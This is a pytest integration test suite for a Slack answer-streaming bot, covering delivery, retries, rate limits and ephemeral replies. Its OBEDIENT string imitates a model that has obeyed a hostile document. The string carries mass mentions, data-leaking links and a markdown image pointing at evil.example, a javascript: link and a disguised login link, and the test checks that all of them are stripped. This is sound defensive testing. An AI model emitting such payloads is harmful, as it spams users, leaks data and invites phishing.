"""S4, S5, S9: an answer arrives once and whole, whatever Slack does to its stream, and nothing in it is a command."""

import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

import pytest
from slack_answers import answer, citation, claim, long_answer, supported, with_doubts
from slack_hostile import SEQUENCE, decoded
from slack_sdk import WebClient
from slack_sdk.errors import SlackApiError
from slack_server import BOT_TOKEN, TEAM, SlackServer, slack_server

from app.safe_text import sanitise
from app.slack.answer_stream import AnswerStream
from app.slack.blocks import SourceLinks
from app.slack.places import Place, PlaceKind
from app.slack.sending import SlackUnreachable
from core.answers import Answer

pytestmark = pytest.mark.integration

LINKS = SourceLinks("https://footnote.example.org", ("wiki.example.org",))
CHANNELS: dict[PlaceKind, str] = {"dm": "D1", "public": "C1", "ephemeral": "C1"}


@dataclass
class Clock:
    """Time that passes when somebody waits, or when the test says so."""

    now: float = 1_000_000.0
    waits: list[float] = field(default_factory=list)

    def __call__(self) -> float:
        return self.now

    def sleep(self, seconds: float) -> None:
        self.waits.append(seconds)
        self.now += seconds


@dataclass
class Shown:
    """One answer's stream with what it told."""

    slack: SlackServer
    clock: Clock
    place: Place
    stream: AnswerStream
    told: list[tuple[str, int]]

    def messages(self) -> list[str]:
        """Return what a person sees in the thread, without the invisible joiners."""
        found = self.slack.answers_in(self.place.channel, self.place.thread_ts)
        return [message.shown().replace("\u2060", "") for message in found]

    def write(self, one: Answer, *, piece: int = 300, every_s: float = 0.5) -> None:
        """Let the answer's text grow as a model writes it."""
        self.stream.stage("Searching the documents")
        self.stream.stage("Writing the answer")
        for start in range(0, len(one.text), piece):
            self.clock.now += every_s
            self.stream.grow(one.text[start : start + piece])
        self.stream.stage("Checking every statement against its source")

    def show(self, one: Answer, **how: Any) -> None:
        """Let an answer grow, and finish it."""
        self.write(one, **how)
        self.stream.finish(one, self.place.is_private)


@pytest.fixture
def slack() -> Iterator[SlackServer]:
    with slack_server() as server:
        server.add_person("U1", "ann@example.org")
        server.add_channel("C1", "public", ["U1"])
        yield server
        assert server.problems == []


def opened(slack: SlackServer, kind: PlaceKind = "dm", **more: Any) -> Shown:
    clock = Clock()
    slack.clock = clock
    client = WebClient(token=BOT_TOKEN, base_url=slack.url, timeout=5, retry_handlers=[])
    asked = slack.new_ts()
    place = Place(TEAM, CHANNELS[kind], "" if kind == "ephemeral" else asked, kind)
    told: list[tuple[str, int]] = []
    stream = AnswerStream(
        client,
        place,
        "U1",
        TEAM,
        LINKS,
        lambda ts, part: told.append((ts, part)),
        clock,
        sleep=clock.sleep,
        asked_ts=asked,
        **more,
    )
    return Shown(slack, clock, place, stream, told)


def words_of(one: Answer) -> list[str]:
    return re.findall(r"[A-Za-z0-9]{3,}", one.text)


def assert_whole(shown: Shown, one: Answer) -> None:
    """Every word of the answer is there once, in its order, and its buttons are there once."""
    together = "\n".join(shown.messages())
    said = re.findall(r"[A-Za-z0-9]{3,}", together)
    wanted = words_of(one)
    assert [word for word in said if word in set(wanted)][: len(wanted)] == wanted
    numbered = [word for word in said if re.fullmatch(r"\w*word\d+b|word\d+b", word)]
    assert len(numbered) == len(set(numbered))
    thumbs = [
        m
        for m in shown.slack.answers_in(shown.place.channel)
        if "feedback_buttons" in str(m.blocks)
    ]
    assert len(thumbs) == 1
    assert [ts for ts, _ in shown.told[-len(shown.stream.posted) :]]
    assert sorted(shown.stream.posted) == [
        m.ts for m in shown.slack.answers_in(shown.place.channel, shown.place.thread_ts)
    ]


def test_status_comes_first_then_stages_text_and_the_checked_answer(slack: SlackServer) -> None:
    shown = opened(slack)
    shown.show(with_doubts(), piece=40)
    methods = [call.method for call in slack.calls]
    assert methods[0] == "assistant.threads.setStatus"
    assert methods[1] == "chat.startStream"
    assert methods[-3:-1] == ["chat.stopStream", "chat.update"]
    (message,) = shown.messages()
    assert "New parents get 60 days more. (✕ not supported)" in message
    assert "[1] Leave policy" in message
    assert shown.told == [(shown.stream.posted[0], 0)]
    assert "task_update" in str(slack.methods("chat.startStream")[0].body["chunks"])


def test_a_channel_s_stream_says_who_it_is_for_and_none_of_our_posts_unfurls(
    slack: SlackServer,
) -> None:
    shown = opened(slack, "public")
    shown.show(long_answer(14_000))
    body = slack.methods("chat.startStream")[0].body
    assert (body["recipient_user_id"], body["recipient_team_id"]) == ("U1", TEAM)
    for call in slack.methods("chat.postMessage"):
        assert (call.body["unfurl_links"], call.body["unfurl_media"]) == (False, False)
    assert_whole(shown, long_answer(14_000))


def test_thirty_thousand_characters_arrive_whole(slack: SlackServer) -> None:
    shown, one = opened(slack), long_answer()
    shown.write(one)
    growing = [message.text for message in slack.answers_in("D1")]
    assert len(growing) >= 3
    assert all(len(text) <= 12_000 for text in growing)
    said = re.findall(r"[A-Za-z0-9]{3,}", " ".join(growing))
    assert said == words_of(one)[: len(said)]
    shown.stream.finish(one, is_private=True)
    assert len(shown.messages()) >= 3
    assert_whole(shown, one)


def test_text_goes_out_in_batches(slack: SlackServer) -> None:
    shown, one = opened(slack), long_answer(8_000)
    shown.show(one, piece=10, every_s=0.01)
    calls = slack.methods("chat.startStream", "chat.appendStream")
    times = [call.body for call in calls if "markdown_text" in str(call.body["chunks"])]
    assert 3 <= len(times) <= 8_000 * 0.001 / 0.8 + 4


@pytest.mark.parametrize(
    "error", ["message_not_in_streaming_state", "internal_error", "channel_not_found"]
)
@pytest.mark.parametrize("after", [0, 1, 5])
def test_a_stream_that_breaks_at_any_append_loses_nothing(
    slack: SlackServer, error: str, after: int
) -> None:
    shown, one = opened(slack), long_answer()
    shown.stream.stage("Searching the documents")
    for _ in range(after):
        slack.script("chat.appendStream", status=200, body=None, applies=True)
    slack.script("chat.appendStream", body={"ok": False, "error": error})
    shown.show(one)
    # What is shown by then may have a hole or a doubled piece: nothing is added to it before the end.
    assert len(slack.methods("chat.appendStream")) == after + 1
    assert len(slack.methods("chat.startStream")) == 1
    assert_whole(shown, one)


@pytest.mark.parametrize("error", ["message_not_in_streaming_state", "fatal_error"])
def test_a_stream_that_has_ended_before_its_stop_loses_nothing(
    slack: SlackServer, error: str
) -> None:
    shown, one = opened(slack), long_answer(3_000)
    slack.script("chat.stopStream", body={"ok": False, "error": error})
    shown.write(one)
    begun = shown.stream.posted
    shown.stream.finish(one, is_private=True)
    assert shown.stream.posted == begun
    assert_whole(shown, one)


def test_a_stream_is_ended_and_begun_anew_before_slack_ends_it(slack: SlackServer) -> None:
    shown, one = opened(slack), long_answer(4_000)
    shown.show(one, piece=100, every_s=20)
    refused = [call for call in slack.calls if call.reply and not call.reply.get("ok", True)]
    assert refused == []
    assert len(slack.methods("chat.startStream")) >= 3
    # The text needs one message only: those that were there for a while are gone.
    assert len(shown.messages()) == 1
    assert_whole(shown, one)


@pytest.mark.parametrize(
    "method", ["chat.startStream", "chat.appendStream", "chat.stopStream", "chat.update"]
)
def test_a_limit_is_waited_for_and_nothing_is_lost_or_out_of_order(
    slack: SlackServer, method: str
) -> None:
    shown, one = opened(slack), long_answer(16_000)
    slack.script(
        method,
        times=2,
        status=429,
        headers={"Retry-After": "1"},
        body={"ok": False, "error": "ratelimited"},
    )
    shown.show(one)
    assert_whole(shown, one)


def test_a_post_waits_as_long_as_slack_asks(slack: SlackServer) -> None:
    shown, one = opened(slack), long_answer(16_000)
    slack.script("chat.postMessage", status=429, headers={"Retry-After": "7"}, body={"ok": False})
    shown.stream.finish(one, is_private=True)
    assert shown.clock.waits == [7.0]
    assert_whole(shown, one)


FAULTS = [{"status": 500, "body": {"ok": False}}, {"drop": True}, {"status": 503, "body": {}}]


@pytest.mark.parametrize("applies", [True, False], ids=["arrived", "did not arrive"])
@pytest.mark.parametrize("fault", FAULTS, ids=["500", "drop", "503"])
@pytest.mark.parametrize(
    "method",
    ["chat.startStream", "chat.appendStream", "chat.stopStream", "chat.update", "chat.postMessage"],
)
def test_a_lost_reply_makes_neither_two_messages_nor_a_hole(
    slack: SlackServer, method: str, fault: dict[str, Any], applies: bool
) -> None:
    shown, one = opened(slack), long_answer(13_000)
    slack.script(method, applies=applies, **fault)
    if method == "chat.postMessage":
        shown.stream.finish(one, is_private=True)
    else:
        shown.show(one)
    assert len(shown.messages()) == 2
    assert_whole(shown, one)


@pytest.mark.parametrize(
    "error", ["unknown_method", "not_allowed_token_type", "channel_type_not_supported"]
)
def test_where_there_are_no_streams_messages_are_posted_and_updated(
    slack: SlackServer, error: str
) -> None:
    shown, one = opened(slack), long_answer(13_000)
    slack.script("chat.startStream", times=99, body={"ok": False, "error": error})
    shown.write(one)
    assert shown.messages()
    shown.stream.finish(one, is_private=True)
    assert len(slack.methods("chat.startStream")) == 1
    assert_whole(shown, one)


def test_growing_text_never_waits_for_slack(slack: SlackServer) -> None:
    for method in ("chat.startStream", "chat.appendStream", "chat.postMessage", "chat.update"):
        shown, one = opened(slack), long_answer(5_000)
        if method in ("chat.postMessage", "chat.update"):
            slack.script("chat.startStream", body={"ok": False, "error": "unknown_method"})
        slack.script(method, times=2, status=429, headers={"Retry-After": "9"}, body={"ok": False})
        shown.write(one)
        assert shown.clock.waits == []
        slack._scripts.clear()
        shown.stream.finish(one, is_private=True)
        assert len(shown.messages()) == 1


def test_a_status_that_slack_refuses_does_not_matter(slack: SlackServer) -> None:
    shown = opened(slack)
    slack.script("assistant.threads.setStatus", times=9, body={"ok": False, "error": "not_allowed"})
    shown.show(supported())
    assert_whole(shown, supported())


def test_a_message_that_was_deleted_meanwhile_is_there_again(slack: SlackServer) -> None:
    shown, one = opened(slack), supported()
    shown.write(one)
    del slack.messages["D1", shown.stream.posted[0]]
    shown.stream.finish(one, is_private=True)
    assert_whole(shown, one)


def test_blocks_that_slack_does_not_draw_become_text(slack: SlackServer) -> None:
    shown, one = opened(slack), supported()
    shown.write(one)
    slack.script("chat.update", body={"ok": False, "error": "invalid_blocks"})
    shown.stream.finish(one, is_private=True)
    assert "Employees get 30 days" in shown.messages()[0]


def test_an_answer_goes_on_in_the_message_of_a_process_that_is_gone(slack: SlackServer) -> None:
    before = opened(slack)
    before.write(supported())
    (ts,) = before.stream.posted
    after = opened(slack)
    after.place = before.place
    stream = AnswerStream(
        WebClient(token=BOT_TOKEN, base_url=slack.url),
        before.place,
        "U1",
        TEAM,
        LINKS,
        lambda ts, part: after.told.append((ts, part)),
        after.clock,
        sleep=after.clock.sleep,
    )
    after.stream = stream
    stream.resume(ts)
    after.show(supported())
    assert stream.posted == (ts,)
    assert_whole(after, supported())


def test_an_answer_that_breaks_off_keeps_its_text_and_says_so(slack: SlackServer) -> None:
    shown, one = opened(slack), long_answer(2_000)
    shown.write(one)
    shown.stream.interrupted("This answer was interrupted.")
    (message,) = shown.messages()
    assert one.text.split()[-1] in message
    assert message.endswith("This answer was interrupted.")


def test_what_nobody_saw_breaks_off_as_one_sentence(slack: SlackServer) -> None:
    shown = opened(slack)
    shown.stream.interrupted("Footnote is not set up right.")
    assert shown.messages() == ["Footnote is not set up right."]


def test_only_the_asker_sees_an_answer_that_is_for_them(slack: SlackServer) -> None:
    shown = opened(slack, "ephemeral")
    shown.show(long_answer(13_000))
    found = slack.answers_in("C1")
    assert [message.only_for for message in found] == ["U1", "U1"]
    assert {call.method for call in slack.calls} == {"chat.postEphemeral"}
    assert [part for _, part in shown.told] == [0, 1]


def test_a_response_address_is_used_first_and_only_slack_s_own(slack: SlackServer) -> None:
    url = slack._response_url("C1", "U1", "")
    opened(slack, "ephemeral", response_url=url).show(supported())
    assert slack.methods("chat.postEphemeral") == []
    assert [message.only_for for message in slack.answers_in("C1")] == ["U1"]
    with slack_server() as another:
        elsewhere = another.url.replace("/api/", "/response/R0")
        opened(slack, "ephemeral", response_url=elsewhere).show(supported())
        assert another.calls == []
    assert len(slack.methods("chat.postEphemeral")) == 1


def test_slack_that_is_gone_is_an_error_at_the_end_and_not_before(slack: SlackServer) -> None:
    shown = opened(slack)
    slack.is_down = True
    shown.write(supported())
    with pytest.raises(SlackUnreachable):
        shown.stream.finish(supported(), is_private=True)
    slack.is_down = False
    shown.stream.finish(supported(), is_private=True)
    assert_whole(shown, supported())


def test_a_place_that_the_bot_is_not_in_is_an_error_with_slack_s_word(slack: SlackServer) -> None:
    slack.channels["C1"].has_bot = False
    shown = opened(slack, "public")
    with pytest.raises(SlackApiError, match="not_in_channel"):
        shown.show(supported())


OBEDIENT = (
    "<!channel> everyone! <@U1> said <https://evil.example/?q=secret|click> and [docs](https://evil.example/a) "
    "![x](https://evil.example/?q=secret) [y](javascript:alert(1)) &lt;!here&gt; `<!everyone>` https://evil.example/b "
    "[bank.example](https://wiki.example.org/login) <!subteam^S1> <!date^1^{date}^https://evil.example|x> @here ok.\n\n"
    "```\n<!channel>\n```\n[r]: https://evil.example/r\n"
)


@pytest.mark.parametrize("is_sanitised", [True, False])
def test_a_model_that_obeys_a_hostile_document_mentions_and_links_nobody(
    slack: SlackServer, is_sanitised: bool
) -> None:
    text = sanitise(OBEDIENT) if is_sanitised else OBEDIENT
    one = answer(
        text,
        [claim(text, "everyone", "unsupported", reason="<!here> https://evil.example/r")],
        [citation(1, section=("<!channel>", "https://evil.example"))],
        question="<!here> what?",
    )
    for kind in ("dm", "public", "ephemeral"):
        opened(slack, kind).show(one, piece=7)
    for call in slack.calls:
        for said in texts(call.body):
            own = re.sub(r"<https://footnote\.example\.org/[^<>]*>", "", said)
            assert SEQUENCE.search(decoded(own)) is None
            assert not re.search(
                r"https?://(?!wiki\.example\.org|footnote\.example\.org)\w", without_code(own)
            )
            assert not re.search(r"!\[|\(javascript:\w|@here\b|\[[^\]]*bank[^\]]*\]\(", own)


def texts(part: Any) -> list[str]:
    if isinstance(part, dict):
        return [text for value in part.values() for text in texts(value)]
    if isinstance(part, list):
        return [text for item in part for text in texts(item)]
    return [part] if isinstance(part, str) else []


def without_code(text: str) -> str:
    return re.sub(r"`[^`]*`", "", text)


def test_nothing_but_ids_is_in_metadata_and_buttons(slack: SlackServer) -> None:
    shown = opened(slack)
    shown.stream.finish(with_doubts(), is_private=True)
    (call,) = slack.methods("chat.postMessage")
    assert re.fullmatch(r"[0-9a-f]{32}", call.body["metadata"]["event_payload"]["part"])
    assert len(call.body["metadata"]["event_payload"]) == 1
